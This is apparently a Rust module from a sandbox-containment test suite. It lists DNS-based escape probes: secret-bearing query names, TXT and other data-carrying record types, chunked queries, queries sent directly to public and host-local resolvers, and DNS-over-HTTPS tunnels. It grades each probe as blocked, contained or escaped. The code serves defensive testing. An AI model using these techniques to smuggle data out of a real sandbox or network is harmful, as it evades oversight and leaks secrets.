//! Names: a question is a message, if it leaves.

use std::{
    io::{self, Read as _, Write as _},
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    time::Duration,
};

use super::{Attack, Context, Finding, attack, calls::errno, http, worst};

/// How long an answer may take.
const WITHIN: Duration = Duration::from_secs(2);
/// Resolvers that everybody knows.
const PUBLIC: [&str; 3] = ["8.8.8.8:53", "1.1.1.1:53", "9.9.9.9:53"];
/// Types of records that carry text or other data of the asked one's choice, and what they are
/// called.
const CARRIERS: [(u16, &str); 10] = [
    (10, "NULL"),
    (15, "MX"),
    (5, "CNAME"),
    (2, "NS"),
    (6, "SOA"),
    (12, "PTR"),
    (33, "SRV"),
    (65, "HTTPS"),
    (252, "AXFR"),
    (255, "ANY"),
];

pub(super) const ATTACKS: &[Attack] = &[
    attack("dns-address", "Asks for the address of a name that holds a secret", |c| {
        udp(c, c.bait.resolver, "c2VjcmV0.boatyard-bait.example.com", 1)
    }),
    attack("dns-address-v6", "The same for an IPv6 address", |c| {
        udp(c, c.bait.resolver, "c2VjcmV0.boatyard-bait.example.com", 28)
    }),
    attack("dns-text", "Asks for text, which tunnels are made of", |c| {
        udp(c, c.bait.resolver, "example.com", 16)
    }),
    attack("dns-carriers", "Asks for records of other kinds that carry data", |c| {
        worst(
            CARRIERS.map(|(kind, name)| {
                (name.to_owned(), udp(c, c.bait.resolver, "example.com", kind))
            }),
        )
    }),
    attack("dns-long-labels", "Asks for names as long as they may be", |c| {
        let label = "x".repeat(63);
        // 253 characters: no name is longer.
        let longest = format!("{label}.{label}.{label}.{}.example.com", "y".repeat(49));
        worst(
            [1, 16, 252, 255]
                .map(|kind| (format!("type {kind}"), udp(c, c.bait.resolver, &longest, kind))),
        )
    }),
    attack("dns-many", "Asks for a thousand names, each with a piece of a secret", |c| {
        let mut last = Finding::blocked("nobody answers");
        for number in 0..1000 {
            last = udp(c, c.bait.resolver, &format!("piece-{number}.example.com"), 1);
            // Nobody is there, or somebody let it through: more of it tells no more.
            if last.outcome != super::Outcome::Contained {
                break;
            }
        }
        last
    }),
    attack("dns-by-stream", "Asks by TCP", |c| {
        worst(
            [1, 16]
                .map(|kind| (format!("type {kind}"), tcp(c, c.bait.resolver, "example.com", kind))),
        )
    }),
    attack("dns-direct", "Asks resolvers of the Internet directly", |c| {
        worst(to(&PUBLIC).flat_map(|address| {
            [1, 16].map(|kind| (address.to_string(), udp(c, address, "example.com", kind)))
        }))
    }),
    attack("dns-direct-by-stream", "The same by TCP", |c| {
        worst(to(&PUBLIC).map(|address| (address.to_string(), tcp(c, address, "example.com", 16))))
    }),
    attack("dns-of-host", "Asks the host's own resolvers", |c| {
        // The usual places: systemd's, dnsmasq's, Docker's, libvirt's.
        let places = [
            "127.0.0.53:53",
            "127.0.0.54:53",
            "127.0.0.11:53",
            "172.17.0.1:53",
            "192.168.122.1:53",
        ];
        worst(to(&places).map(|address| (address.to_string(), udp(c, address, "example.com", 16))))
    }),
    attack("dns-to-bait", "Sends a question to a port of the host", |c| {
        worst(c.bait.host.udp.iter().map(|address| {
            (address.to_string(), udp(c, *address, &format!("{}.example.com", c.name), 16))
        }))
    }),
    attack("dns-update", "Sends an update and other requests that are no questions", |c| {
        worst([(4u8, "notify"), (5, "update"), (2, "status")].map(|(operation, name)| {
            let mut query = question("example.com", 6);
            query[2] |= operation << 3;
            (name.to_owned(), send(c, c.bait.resolver, &query))
        }))
    }),
    attack("dns-over-https", "Asks a resolver on the web", |c| {
        let targets = ["cloudflare-dns.com:443", "dns.google:443", "1.1.1.1:443", "8.8.8.8:443"];
        worst(targets.map(|target| (target.to_owned(), super::proxy::tunnel(c, target))))
    }),
];

fn to(addresses: &[&str]) -> impl Iterator<Item = SocketAddr> {
    addresses.iter().filter_map(|address| address.parse().ok())
}

/// A question for `name`; labels that are too long are cut.
fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = vec![0x4b, 0x59, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        let label = &label.as_bytes()[..label.len().min(63)];
        bytes.push(label.len() as u8);
        bytes.extend(label);
    }
    bytes.push(0);
    bytes.extend(kind.to_be_bytes());
    bytes.extend([0, 1]);
    bytes
}

fn udp(c: &Context<'_>, resolver: SocketAddr, name: &str, kind: u16) -> Finding {
    send(c, resolver, &question(name, kind))
}

fn send(c: &Context<'_>, resolver: SocketAddr, query: &[u8]) -> Finding {
    let answer = (|| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.set_read_timeout(Some(WITHIN))?;
        socket.connect(resolver)?;
        socket.send(query)?;
        let mut bytes = vec![0; 4096];
        let length = socket.recv(&mut bytes)?;
        bytes.truncate(length);
        Ok(bytes)
    })();
    judge(c, &answer)
}

fn tcp(c: &Context<'_>, resolver: SocketAddr, name: &str, kind: u16) -> Finding {
    let query = question(name, kind);
    let answer = (|| {
        let mut stream = http::connect(resolver)?;
        stream.set_read_timeout(Some(WITHIN))?;
        stream.write_all(&(query.len() as u16).to_be_bytes())?;
        stream.write_all(&query)?;
        let mut length = [0; 2];
        stream.read_exact(&mut length)?;
        let mut bytes = vec![0; usize::from(u16::from_be_bytes(length))];
        stream.read_exact(&mut bytes)?;
        Ok(bytes)
    })();
    judge(c, &answer)
}

/// An answer with data of somebody else is an escape; an address of the workspace's own range is
/// not: nobody was asked for it.
fn judge(c: &Context<'_>, answer: &io::Result<Vec<u8>>) -> Finding {
    let bytes = match answer {
        Err(error) => {
            return match error.kind() {
                io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut => {
                    Finding::blocked("nobody answers")
                }
                io::ErrorKind::UnexpectedEof => Finding::blocked("closed without a word"),
                _ => Finding::blocked(errno(error)),
            };
        }
        Ok(bytes) => bytes,
    };
    if http::has_token(c, &String::from_utf8_lossy(bytes)) {
        return Finding::escaped("it arrived");
    }
    let Some(&[_, _, _, flags, _, _, high, low]) = bytes.first_chunk::<8>() else {
        return Finding::escaped("somebody answers");
    };
    let code = flags & 15;
    let answers = u16::from_be_bytes([high, low]);
    match (code, answers) {
        (0, 0) => Finding::blocked("no data"),
        (0, _) => match addresses(bytes).as_slice() {
            [] => Finding::escaped(format!("{answers} records of data")),
            found if found.iter().all(is_own) => {
                Finding::contained(format!("{}, an address of its own", found[0]))
            }
            found => Finding::escaped(format!("the address {}", found[0])),
        },
        (code, _) => Finding::blocked(match code {
            1 => "FORMERR".to_owned(),
            2 => "SERVFAIL".to_owned(),
            3 => "NXDOMAIN".to_owned(),
            4 => "NOTIMP".to_owned(),
            5 => "REFUSED".to_owned(),
            other => format!("code {other}"),
        }),
    }
}

/// The range from which names get addresses inside.
fn is_own(address: &Ipv4Addr) -> bool {
    matches!(address.octets(), [198, 18 | 19, ..])
}

/// The IPv4 addresses among the answers, as far as they can be read.
fn addresses(bytes: &[u8]) -> Vec<Ipv4Addr> {
    let mut found = Vec::new();
    let Some(mut at) = skip_name(bytes, 12).map(|at| at + 4) else { return found };
    while let Some(next) = skip_name(bytes, at) {
        let Some(&[kind_high, kind, _, _, _, _, _, _, high, low]) =
            bytes.get(next..).and_then(|rest| rest.first_chunk::<10>())
        else {
            break;
        };
        let length = usize::from(u16::from_be_bytes([high, low]));
        let data = bytes.get(next + 10..next + 10 + length);
        if let ((0, 1), Some(&[a, b, c, d])) = ((kind_high, kind), data) {
            found.push(Ipv4Addr::new(a, b, c, d));
        }
        at = next + 10 + length;
    }
    found
}

fn skip_name(bytes: &[u8], mut at: usize) -> Option<usize> {
    loop {
        match *bytes.get(at)? {
            0 => return Some(at + 1),
            pointer if pointer >= 0xc0 => return Some(at + 2),
            length => at += 1 + usize::from(length),
        }
    }
}
